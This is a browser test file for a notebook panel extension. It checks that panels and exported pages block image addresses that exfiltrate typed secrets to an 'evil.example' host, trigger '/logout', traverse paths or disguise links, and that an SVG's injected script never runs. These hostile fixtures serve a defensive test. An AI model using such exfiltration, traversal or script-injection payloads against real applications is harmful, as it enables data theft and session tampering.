"""Pictures and links that carry data away, or act on the reader's own server.

Who: the author of a panel, of Markdown in a cell, or of a table whose cells become addresses. With what: an address of a picture
that holds a row or typed text, an address of the own server such as ``/logout``, a link that reads like another one. What must
hold: drawing a panel asks nobody for anything but files of the workspace and what a person has allowed by name.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect

from nexus_jupyter.assets import inline_json
from nexus_jupyter.notebook import Workspace
from tests.lab import SHOTS, Lab, allow, run_notebook

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
#: Its scripts never run, and what it would load is never asked for.
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4" onload="window.trapped = 1"><script>window.trapped = 1</script>'
    '<image href="https://evil.example/inside.png"/></svg>'
)
PANEL = """<panel xmlns="urn:nexus:nxml:1" id="album" title="Album">
  <view><column id="c">
    <input id="typed" label="Secret" bind:value="secret"/>
    <image id="own" src="files/dot.png" alt="A dot"/>
    <image id="away" src="https://evil.example/?{secret}" alt="Away"/>
    <image id="asked" src="https://pictures.example/dot.png?{secret}" alt="Asked"/>
    <image id="logout" src="{'/log' + 'out'}" alt="Logout"/>
    <image id="full" src="{here}" alt="Full"/>
    <image id="up" src="files/{up}" alt="Up"/>
    <markdown id="m">![a](https://evil.example/m.png) ![b](/logout) ![c](files/dot.png) ![d](files/../../logout) ![e](files/drawn.svg) [bank.example](https://evil.example/link)</markdown>
  </column></view>
  <data><state name="secret" type="str" default="row-1"/><state name="here" type="str" default="HERE/logout"/>
    <state name="up" type="str" default="../../../logout"/></data>
  <logic><uses cap="net.http" target="https://pictures.example" why="to show pictures"/></logic>
</panel>"""


@pytest.mark.browser
@pytest.mark.timeout(240)
def test_drawing_a_panel_asks_nobody_but_the_workspace_and_what_was_allowed(page: Page, lab: Lab) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        if "pictures.example" in route.request.url:
            assert "referer" not in route.request.headers
            route.fulfill(body=PIXEL, content_type="image/png")
        else:
            route.abort()

    page.route("https://*.example/**", answer)
    page.route("**/logout*", answer)
    files = lab.folder / "nexus-workspace" / "files"
    files.mkdir(parents=True, exist_ok=True)
    (files / "dot.png").write_bytes(PIXEL)
    (files / "drawn.svg").write_text(SVG)
    (files / "notes.html").write_text("<script>window.trapped = 1</script>")
    text = PANEL.replace("HERE", lab.url.split("/lab?")[0])
    panel = run_notebook(
        page, lab, "album", f"import nexus_jupyter as nexus\nnexus.connect().panel('album', '''{text}''')"
    )
    expect(panel.locator('[data-id="own"] img')).to_be_visible(timeout=60_000)
    page.wait_for_function("document.querySelector('[data-id=own] img').naturalWidth === 1")
    panel.get_by_label("Secret").fill("typed words")
    panel.get_by_label("Secret").press("Tab")
    for name in ("away", "asked"):
        expect(panel.locator(f'[data-id="{name}"]')).to_contain_text(
            "which this panel was not allowed to use", timeout=30_000
        )
    for name in ("logout", "up"):
        expect(panel.locator(f'[data-id="{name}"]')).to_contain_text(
            "there is no picture at this address", timeout=30_000
        )
    expect(panel.locator("img")).to_have_count(3, timeout=30_000)
    page.wait_for_function("document.querySelector('[data-id=m] img[alt=c]').naturalWidth === 1")
    page.wait_for_function("document.querySelector('[data-id=m] img[alt=e]').naturalWidth === 4")
    assert page.evaluate("window.trapped") is None
    base, _, token = lab.url.partition("lab?token=")
    for path, status in (("notes.html", 404), ("%2e%2e/journal.db", 404), (".hidden.png", 404), ("dot.png", 200)):
        answer = page.request.get(f"{base}nexus/api/files/{path}", headers={"Authorization": f"token {token}"})
        assert (answer.status in {400, 404}) == (status != 200), path
    assert asked == []
    panel.screenshot(path=SHOTS / "pictures-refused.png")
    allow(panel.get_by_role("button", name="For an hour"))
    page.wait_for_function("document.querySelector('[data-id=asked] img')?.naturalWidth === 1")
    assert {url.split("?")[0] for url in asked} == {"https://pictures.example/dot.png"}
    expect(panel.locator("img")).to_have_count(4, timeout=30_000)
    link = panel.locator('[data-id="m"] a')
    expect(link).to_have_text("bank.example (evil.example)")
    expect(link).to_have_attribute("rel", "noreferrer noopener")


@pytest.mark.browser
@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without its policy"])
def test_an_exported_page_asks_nobody_for_anything(page: Page, tmp_path: Path, policy: bool) -> None:
    with Workspace.open(tmp_path / "ws") as workspace:
        workspace.panel("album", PANEL.replace("HERE", "http://page.example"))
        html = workspace.export_html("album")
    assert "default-src 'none'" in html
    assert "https:;" not in html.split("<style>")[0]
    asked: list[str] = []

    def answer(route: Route) -> None:
        if route.request.url == "http://page.example/page.html":
            body = html if policy else html.replace("Content-Security-Policy", "x-policy")
            route.fulfill(body=body, content_type="text/html")
        elif not route.request.url.startswith("blob:"):
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", answer)
    page.goto("http://page.example/page.html")
    expect(page.locator('[data-id="away"]')).to_contain_text("which this panel was not allowed to use", timeout=30_000)
    page.get_by_label("Secret").fill("typed")
    page.get_by_label("Secret").press("Tab")
    expect(page.locator('[data-id="typed"] input')).to_have_value("typed")
    assert [url for url in asked if "favicon" not in url] == []


@pytest.mark.parametrize("text", ["</script>", "<!--", "\u2028", "\u2029", "]]>"])
def test_json_in_a_page_ends_neither_its_element_nor_a_line(text: str) -> None:
    written = inline_json({"a": text})
    assert not {"<", "\u2028", "\u2029"} & set(written)
    assert json.loads(written) == {"a": text}
